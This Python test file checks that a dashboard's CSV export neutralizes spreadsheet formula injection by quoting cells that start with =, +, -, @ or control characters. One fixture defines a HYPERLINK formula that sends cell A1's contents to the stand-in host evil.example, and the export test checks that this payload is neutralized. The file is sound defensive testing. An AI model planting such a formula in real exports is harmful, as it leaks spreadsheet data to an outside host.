"""CSV exports open as data: text a spreadsheet would run as a formula is quoted.

Channel names, agent names and labels are typed by people; "=HYPERLINK(...)" in one of
them used to reach the exported cell as is (inbox/csv_export.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from dashboards import rollup
from inbox.csv_export import csv_text, neutralize_formula
from inbox.models import Channel

from . import history
from .history import DAY, local

URL = "/w/acme/dashboards/"
RANGE = {"start": "2026-03-10", "end": "2026-03-10"}
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ana García", "Ana García"),
        ("", ""),
        (-3.5, -3.5),  # a number is data, not a formula
        (12, 12),
    ],
)
def test_neutralize_formula(value, cell):
    assert neutralize_formula(value) == cell


def test_csv_text_quotes_formula_cells_and_keeps_numbers():
    text = csv_text(["name", "delta"], [["=1+2", -4], [None, 1.5]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "delta"],
        ["'=1+2", "-4"],
        ["", "1.5"],
    ]


@pytest.mark.django_db
def test_dashboard_csv_neutralizes_a_channel_named_like_a_formula(
    client, manager, workspace, agent
):
    history.build(workspace, agent)
    rollup.run_workspace(workspace, now=local(12, day=DAY + dt.timedelta(days=1)))
    Channel.objects.filter(workspace=workspace).update(name=EVIL)
    client.force_login(manager)
    response = client.get(URL, {**RANGE, "format": "csv", "table": "channel_health"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + EVIL
    assert not any(cell.startswith("=") for row in rows for cell in row)
